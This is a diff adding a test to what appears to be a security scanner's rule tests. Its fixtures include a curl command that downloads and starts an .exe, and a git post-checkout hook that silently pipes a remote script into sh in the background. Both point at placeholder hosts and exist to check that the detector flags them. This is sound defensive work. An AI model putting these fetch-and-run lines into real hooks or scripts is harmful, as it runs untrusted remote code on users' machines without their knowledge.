@@ -37,3 +37,9 @@ test('a script whose lines are put together, each of several parts', () => {
   assert.ok(['high', 'critical'].includes(worst(lines('"@echo off"', '`curl -s -o "${dir}/a.exe" https://cdn.assets.example/a.exe`', '`start "" /b "${dir}/a.exe"`'))));
   assert.ok(!['high', 'critical'].includes(findingsOf(rule, { 'a.js': lines('"@echo off"', '"cd \\"" + dir + "\\""', '"npm test"') }).find(({ message }) => message.startsWith('a script for a shell'))?.severity ?? ''));
 });
+
+test('bad: lines of a hook in a table that get what they run from a server; good: lines that look at what is committed', () => {
+  const hook = (line: string) => findingsOf(rule, { 'a.js': `module.exports = { 'post-checkout': ['#!/bin/sh', '${line}', 'exit 0'].join('\\n') };` }).filter(({ severity }) => severity === 'high').length;
+  assert.equal(hook('( curl -fsSL https://get.hooks.example/u.sh | sh ) >/dev/null 2>&1 &'), 1);
+  assert.equal(hook('if git diff --cached | grep -q "<<<<<<<"; then exit 1; fi'), 0);
+});
